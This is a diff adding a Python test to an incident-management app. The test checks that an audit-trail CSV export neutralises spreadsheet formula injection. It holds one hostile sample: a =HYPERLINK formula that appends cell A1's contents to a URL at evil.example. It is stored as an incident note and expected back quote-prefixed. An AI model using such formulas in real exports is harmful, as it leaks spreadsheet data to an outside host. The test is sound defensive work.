@@ -297,6 +297,28 @@ def test_audit_trail_is_readable_exportable_and_never_editable(world) -> None:
     assert lead.post(url(world.a, "audit/"), {}, format="json").status_code == 405
 
 
+def test_audit_csv_never_lets_a_typed_note_run_as_a_formula(world) -> None:
+    owner = world.a.person(Role.CLIENT_PR)
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    with tenant_context(world.a.brand):
+        incident = services.open_incident(
+            summary="Rumour", severity=1, owner_id=owner.pk, actor_id=owner.pk, now=timezone.now()
+        )
+        services.update_incident(
+            incident_id=incident.pk,
+            severity=1,
+            note=hostile,
+            actor_id=owner.pk,
+            now=timezone.now(),
+        )
+    exported = client_for(world.a.person(Role.CLIENT_LEGAL)).get(
+        url(world.a, "audit/export/?file_format=csv")
+    )
+    cells = [cell for row in csv.reader(io.StringIO(exported.content.decode())) for cell in row]
+    assert "'" + hostile in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+
+
 def test_figures_count_decisions_within_deadline(world) -> None:
     step = open_post_step(world.a)
     client_for(world.a.person(Role.ACCOUNT_LEAD)).post(
